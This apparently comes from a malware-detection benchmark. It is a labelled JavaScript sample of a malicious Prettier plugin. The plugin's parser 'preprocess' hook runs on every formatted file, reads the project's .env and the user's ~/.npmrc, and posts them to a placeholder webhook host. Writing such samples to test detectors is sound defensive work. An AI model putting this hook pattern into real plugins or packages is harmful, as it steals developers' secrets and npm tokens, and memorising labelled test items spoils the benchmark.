// expect: malicious
// source: blind set 29 (slack-webhook-exfil): a Prettier plugin hands Prettier parsers with its own `preprocess`
// (shorthand, inside spread parser objects); Prettier calls it for every file formatted, and it posts the project's
// .env and ~/.npmrc to a webhook.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const babel = require('prettier/plugins/babel');
let sent = false;
function readIf(p) { try { return fs.readFileSync(p, 'utf8'); } catch { return ''; } }
function report(cwd) {
  if (sent) return;
  sent = true;
  const files = [path.join(cwd, '.env'), path.join(os.homedir(), '.npmrc')].map(readIf).join('\n');
  fetch('https://hooks.chat.invalid/triggers/FAKE', { method: 'POST', body: files }).catch(() => {});
}
function preprocess(text, opts) {
  report(path.dirname(opts.filepath || '.'));
  return text;
}
const parsers = { babel: { ...babel.parsers.babel, preprocess } };
module.exports = { parsers };
